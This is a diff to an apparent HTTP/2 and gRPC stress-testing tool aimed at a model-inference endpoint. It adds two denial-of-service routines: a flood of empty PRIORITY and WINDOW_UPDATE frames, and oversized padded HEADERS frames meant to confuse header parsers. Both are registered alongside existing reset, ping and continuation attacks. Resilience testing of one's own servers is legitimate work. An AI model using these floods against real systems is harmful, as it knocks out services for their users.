@@ -9,8 +9,8 @@ from churnattack.heads import PREFACE
 from churnattack.target import Attack, Run, Tally, Target, paced, together
 from churnattack.wire import Wire, wired
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-END_HEADERS = 4
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
+END_HEADERS, PADDED = 4, 8
 STREAMS = 100
 METHOD = "/inference.GRPCInferenceService/ModelInfer"
 
@@ -112,6 +112,22 @@ async def pings(wire: Wire, _: Target, turns: AsyncIterator[int]) -> None:
         await wire.send((frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 10)
 
 
+async def crumbs(wire: Wire, _: Target, turns: AsyncIterator[int]) -> None:
+    """Frames that carry nothing and want no answer."""
+    async for _turn in turns:
+        await wire.send((frame(PRIORITY, 0, 1, bytes(5)) + frame(WINDOW_UPDATE, 0, 1, bytes([0, 0, 0, 1]))) * 600)
+
+
+async def padded(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
+    """Blocks whose padding is fields to a reader that knows no padding."""
+    stream = 1
+    remembered = b"\x40" + text("x") + text("y")
+    await wire.send(frame(HEADERS, END_HEADERS, stream, call(target, key=False) + remembered))
+    async for _ in turns:
+        stream += 2
+        await wire.send(frame(HEADERS, END_HEADERS | PADDED, stream, b"\xff" + b"\xbe" * 16_000))
+
+
 async def continuations(wire: Wire, target: Target, turns: AsyncIterator[int]) -> None:
     """Metadata without end."""
     await wire.send(frame(HEADERS, 0, 1, call(target, key=False)))
@@ -172,6 +188,12 @@ HTTP2_ATTACKS = (
     ),
     Attack("grpc-resets", "gRPC", "calls taken back at once, 500 a second", on_connections(2, 25.0, reset_streams)),
     Attack("grpc-pings", "gRPC, no key", "pings and settings, 4,000 a second", on_connections(2, 100.0, pings)),
+    Attack(
+        "grpc-crumbs", "gRPC, no key", "frames that carry nothing, 20 connections of 1 MB/s", on_connections(20, 64.0, crumbs)
+    ),
+    Attack(
+        "grpc-padded", "gRPC, no key", "padding that could be fields, 4 connections of 1 MB/s", on_connections(4, 64.0, padded)
+    ),
     Attack(
         "grpc-continuations",
         "gRPC, no key",
